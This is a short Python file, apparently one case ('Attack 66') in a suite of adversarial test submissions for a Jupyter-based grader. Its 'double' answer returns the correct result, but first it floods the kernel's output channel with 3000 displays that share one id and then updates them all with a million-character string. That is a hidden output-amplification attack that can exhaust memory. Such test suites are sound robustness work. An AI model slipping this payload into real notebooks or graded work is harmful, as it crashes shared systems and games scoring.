# Attack 66: One update of a display that thousands of outputs share, each of which becomes as long.
# points: double 2, half 1
# reads: double: correct

# %% double-answer
def double(x):
    kernel = get_ipython().kernel
    parent, mine = kernel.get_parent("shell"), {"display_id": "mine"}
    for number in range(3000):
        shown = {"data": {"text/plain": "x"}, "metadata": {}, "transient": mine}
        kernel.session.send(kernel.iopub_socket, "display_data", shown, parent=parent)
    large = {"data": {"text/plain": "x" * 1_000_000}, "metadata": {}, "transient": mine}
    kernel.session.send(kernel.iopub_socket, "update_display_data", large, parent=parent)
    return 2 * x
